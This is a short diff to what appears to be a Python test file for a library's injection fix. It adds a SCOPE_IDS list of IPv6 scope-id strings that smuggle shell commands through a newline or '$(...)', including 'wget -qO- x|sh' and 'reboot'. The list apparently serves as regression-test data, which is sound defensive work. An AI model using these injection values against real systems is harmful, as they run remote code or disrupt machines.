@@ -37,6 +37,8 @@ LIBRARY = os.path.dirname(os.path.dirname(messages.__file__))
 def library_files():
     """Paths of the library's modules, relative to it, in every package."""
     return sorted(os.path.relpath(os.path.join(d, f), LIBRARY) for d, _dirs, files in os.walk(LIBRARY) for f in files if f.endswith('.py'))
+
+
 JOB_ID = '0123456789abcdef0123456789abcdef'
 # The issue's own payloads: a scope id can hold anything but `%` and `/`.
 SCOPE_IDS = ['fd00::1%x\n up touch pwned', 'fd00::1%x\n up wget -qO- x|sh', 'fd00::1%$(reboot)', 'fe80::1%eth0']
